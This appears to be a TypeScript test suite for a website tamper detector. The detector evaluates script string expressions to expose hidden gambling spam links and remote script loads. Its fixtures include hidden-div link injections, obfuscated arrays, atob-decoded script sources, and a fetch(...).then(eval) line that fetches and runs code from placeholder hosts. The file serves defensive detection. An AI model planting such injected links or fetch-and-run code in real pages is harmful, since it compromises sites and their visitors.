/** Evaluating the string expressions scripts build markup with: variables, arrays, decoders; nothing else. */
import { evalString, expressionEnd, leadingString, stringBindings } from '../../../checks/tamper/js-strings';
import { createdResources, writtenHtml } from '../../../checks/tamper/scripts';

const html = (code: string) => writtenHtml(code).map((w) => w.html);

describe('string variables and arrays', () => {
  it('reads a variable assigned and appended to before it is written', () => {
    expect(html(`var s = '<div style="display:none;">';\ns += '<a href="http://x.top/">六合彩</a>';\ns += '</div>';\nel.innerHTML = s;`)).toEqual(['<div style="display:none;"><a href="http://x.top/">六合彩</a></div>']);
  });
  it('joins arrays, literal or named, and indexes them', () => {
    expect(html(`document.write(['<a href="', 'http://y.top/', '">', '\\u8d4c\\u573a', '</a>'].join(''));`)).toEqual(['<a href="http://y.top/">赌场</a>']);
    expect(html(`var _0x=["\\x3ca href='http://z.top/'\\x3e","\\x3c/a\\x3e"];document.write(_0x[0]+'博彩'+_0x[1]);`)).toEqual(["<a href='http://z.top/'>博彩</a>"]);
  });
  it('fills template literals and joins numbers', () => {
    expect(html("var u='http://t.top/';document.write(`<a href=\"${u}\">赌场</a>`);")).toEqual(['<a href="http://t.top/">赌场</a>']);
    expect(html(`document.write('<a href="http://www.xpj'+8+'.com/">x</a>');`)).toEqual(['<a href="http://www.xpj8.com/">x</a>']);
    expect(html(`var d=new DOMParser().parseFromString('<a href="http://p.top/">x</a>','text/html');`)[0]).toMatch(/^<a href="http:\/\/p\.top\/">x<\/a>/);
  });
  it('leaves what it cannot know: calls, the DOM, loop variables', () => {
    const b = stringBindings(`var u = location.href; var t = document.title + '!'; var k = 'a'; k = f(k);`);
    expect([...b.keys()]).toEqual([]);
    expect(evalString('prefix + name', new Set(), 0, new Map([['prefix', '<b>']]))).toBeUndefined();
    // A menu built from data in a loop: its variable is no string here, so nothing is taken as written.
    expect(html(`for(var i=0;i<l.length;i++){h+='<li><a href="'+l[i].u+'">'+l[i].n+'</a></li>';}$('#m').html(h);`)).toEqual([]);
    // Written directly, the same data falls back to the literals it joins: empty addresses, no link to judge.
    expect(html(`$('#m').append('<li><a href="'+l[i].u+'">'+l[i].n+'</a></li>');`)).toEqual(['<li><a href=""></a></li>']);
  });
  it('ends an expression at its own semicolon, not one inside a string', () => {
    const code = `x.innerHTML = '<p style="color:red;">a</p>' + '<i>;</i>'; y = 2;`;
    expect(code.slice(14, expressionEnd(code, 14))).toBe(`'<p style="color:red;">a</p>' + '<i>;</i>'`);
  });
  it('bounds a hostile script: thousands of assignments and a long value', () => {
    const code = Array.from({ length: 20_000 }, (_, i) => `v${i} = 'x' + v${i > 0 ? i - 1 : 0};`).join('\n') + `s = '${'a'.repeat(400_000)}';`;
    const t0 = Date.now();
    const b = stringBindings(code);
    expect(Date.now() - t0).toBeLessThan(3000);
    expect(b.size).toBeLessThanOrEqual(500);
  });
});

describe('addresses a script loads', () => {
  it('knows the start of a computed address, and no more', () => {
    const vars = new Map([['host', 'http://cdn.x.xyz']]);
    expect(leadingString(`host + '/a.js?v=' + Date.now()`, vars)).toBe('http://cdn.x.xyz/a.js?v=');
    expect(leadingString(`location.protocol + '//a.b/'`, vars)).toBeUndefined();
  });
  it('vets scripts created with decoded, joined or variable addresses, and code fetched to run', () => {
    const src = (code: string) => createdResources(code).map((c) => `${c.kind} ${c.src}${c.loaded ? ' loaded' : ''}`);
    expect(src(`var s=document.createElement('script');s.src=atob('aHR0cDovL2EudG9wL3guanM=');`)).toEqual(['script http://a.top/x.js']);
    expect(src(`var h='http://'+'b.xyz';var s=document.createElement('script');s.src=h+'/j.js?'+Math.random();`)).toEqual(['script http://b.xyz/j.js?']);
    expect(src(`$.getScript('http://c.top/s.js');fetch('https://d.top/p').then(eval);`)).toEqual(['script http://c.top/s.js loaded', 'script https://d.top/p loaded']);
    // Not addresses: a host still being built, a relative module, JSON parsed with eval.
    expect(src(`var s=document.createElement('script');s.src='http://cdn.'+region+'/x.js';import('./m.js');$.ajax({url:'http://api.e.cn/w'});var d=eval('('+res+')');`)).toEqual([]);
  });
});
